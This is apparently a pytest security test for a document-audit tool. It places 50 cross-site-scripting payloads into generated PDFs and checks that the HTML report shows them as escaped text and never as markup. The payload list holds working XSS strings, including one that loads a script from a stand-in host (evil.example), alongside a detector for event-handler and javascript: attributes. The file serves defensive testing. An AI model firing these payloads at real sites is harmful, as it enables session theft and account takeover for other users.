"""XSS: 50 payloads in a PDF's text, title, table cells and file name never become markup in the audit report.

The PDFs are rendered with reportlab, ingested for real, audited for real; the report is parsed with
html.parser: exactly one script element (the static one), no on* attribute, no javascript: URL, no tag
outside the report's own vocabulary, and the payloads show up as text.
"""

from __future__ import annotations

import io
from html.parser import HTMLParser
from pathlib import Path
from xml.sax.saxutils import escape as xml_escape

import pytest
from reportlab.lib.pagesizes import A4
from reportlab.lib.styles import getSampleStyleSheet
from reportlab.platypus import Paragraph, SimpleDocTemplate, Table, TableStyle

from flows.audit import audit_document
from flows.audit_html import SCRIPT
from flows.ingest import IngestOptions, ingest
from flows.settings import Limits

PAYLOADS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "\"><script>alert(2)</script>",
    "'><img src=x onerror=alert(3)>", "<iframe src=javascript:alert(4)>", "<body onload=alert(5)>",
    "<a href=\"javascript:alert(6)\">x</a>", "<div onmouseover=\"alert(7)\">x</div>", "javascript:alert(8)",
    "<scr<script>ipt>alert(9)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<input autofocus onfocus=alert(10)>",
    "<details open ontoggle=alert(11)>", "<marquee onstart=alert(12)>", "<video><source onerror=alert(13)>",
    "<audio src=x onerror=alert(14)>", "<object data=javascript:alert(15)>", "<embed src=javascript:alert(16)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(17)>", "<style>@import 'javascript:alert(18)'</style>",
    "<link rel=stylesheet href=javascript:alert(19)>", "<meta http-equiv=refresh content=0;url=javascript:alert(20)>",
    "<base href=javascript:alert(21)//>", "<form action=javascript:alert(22)><input type=submit>",
    "<button formaction=javascript:alert(23)>x</button>", "<isindex action=javascript:alert(24) type=image>",
    "<textarea onfocus=alert(25) autofocus>", "<keygen autofocus onfocus=alert(26)>", "<select autofocus onfocus=alert(27)>",
    "\" onmouseover=\"alert(28)", "' onclick='alert(29)", "` onerror=`alert(30)", "</title><script>alert(31)</script>",
    "</style><script>alert(32)</script>", "</textarea><script>alert(33)</script>", "<!--<script>alert(34)</script>-->",
    "<![CDATA[<script>alert(35)</script>]]>", "&lt;script&gt;alert(36)&lt;/script&gt;", "&#60;script&#62;alert(37)",
    "<svg><script>alert(38)</script></svg>", "<svg><a xlink:href=javascript:alert(39)><text>x</text></a></svg>",
    "<img src=\"x\" onerror=\"&#97;lert(40)\">", "<a href=\"jav&#x09;ascript:alert(41)\">x</a>",
    "<img src=x:alert(42) onerror=eval(src)>", "<x onclick=alert(43)>click", "{{constructor.constructor('alert(44)')()}}",
    "${alert(45)}", "<img src=`x`onerror=alert(46)>", "<svg/onload=alert(47)>", "data:text/html,<script>alert(48)</script>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCg0OSk8L3NjcmlwdD4=>x</a>", "<iframe srcdoc='<script>alert(50)</script>'>",
]
ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "table", "thead", "tbody", "tr",
                "th", "td", "caption", "ul", "li", "span", "div", "img", "a", "p", "label", "select", "option", "input",
                "script", "svg", "g", "line", "circle", "text", "rect", "path", "polyline", "br", "small"}
PER_DOC = 10


class Inspector(HTMLParser):
    """Everything a browser would treat as active content, plus the visible text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.bad_attrs: list[tuple[str, str, str]] = []
        self.scripts: list[str] = []
        self.text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self._in_script = tag == "script"
        for name, value in attrs:
            v = "".join((value or "").split()).lower()
            if name.startswith("on") or v.startswith(("javascript:", "vbscript:", "data:text")) or name == "srcdoc":
                self.bad_attrs.append((tag, name, value or ""))
            if name in ("href", "src") and not (v.startswith("#") or v.startswith("data:image/")):
                self.bad_attrs.append((tag, name, value or ""))

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts.append(data)
        else:
            self.text.append(data)


def payload_pdf(payloads: list[str]) -> bytes:
    """Title (metadata and heading), body sentences and a ruled table, each carrying payloads."""
    styles = getSampleStyleSheet()
    buf = io.BytesIO()
    doc = SimpleDocTemplate(buf, pagesize=A4, title=payloads[0], author=payloads[1], invariant=1)
    story = [Paragraph(xml_escape(payloads[0]), styles["Title"])]
    for p in payloads:
        story.append(Paragraph(xml_escape(f"By 2030 the share of renewables {p} reaches 40% of power."),
                               styles["BodyText"]))
    rows = [["Indicator", "2025", "2030"]] + [[p, "20%", "25%"] for p in payloads]
    table = Table(rows)
    table.setStyle(TableStyle([("GRID", (0, 0), (-1, -1), 0.5, "black")]))
    story.append(table)
    doc.build(story)
    return buf.getvalue()


def file_name_of(i: int, payload: str) -> str:
    return f"{i:02d}_" + payload.replace("/", "_")[:120] + ".pdf"


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> list[tuple[str, Path]]:
    """(file name, report.html) for each payload PDF, after a real ingest and a real audit."""
    tmp = tmp_path_factory.mktemp("xss")
    folder = tmp / "in"
    folder.mkdir()
    names = []
    for i in range(0, len(PAYLOADS), PER_DOC):
        name = file_name_of(i, PAYLOADS[i + 2])
        (folder / name).write_bytes(payload_pdf(PAYLOADS[i:i + PER_DOC]))
        names.append(name)
    opts = IngestOptions(db=tmp / "w.duckdb", store=tmp / "store", workers=2, limits=Limits(timeout_s=60))
    outcomes = ingest([folder], opts)
    assert all(o.status == "ok" for o in outcomes), [(o.path, o.error) for o in outcomes]
    return [(n, audit_document(opts.db, n, tmp / f"{n[:2]}.html", dpi=20).html) for n in names]


def test_there_are_fifty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 50


def test_no_payload_becomes_markup(reports) -> None:
    for name, html in reports:
        page = Inspector()
        page.feed(html.read_text(encoding="utf-8"))
        assert page.scripts == [SCRIPT], name                    # one script element: the static one
        assert page.bad_attrs == [], (name, page.bad_attrs[:5])
        assert set(page.tags) <= ALLOWED_TAGS, set(page.tags) - ALLOWED_TAGS


def test_payloads_arrive_as_text(reports) -> None:
    """The data is shown, escaped: the file name, and payloads inside extracted quotes and table cells."""
    seen = 0
    for i, (name, html) in enumerate(reports):
        page = Inspector()
        page.feed(html.read_text(encoding="utf-8"))
        text = "".join(page.text)
        assert name in text
        seen += sum(1 for p in PAYLOADS[i * PER_DOC:(i + 1) * PER_DOC] if p in text)
    assert seen >= 25, seen
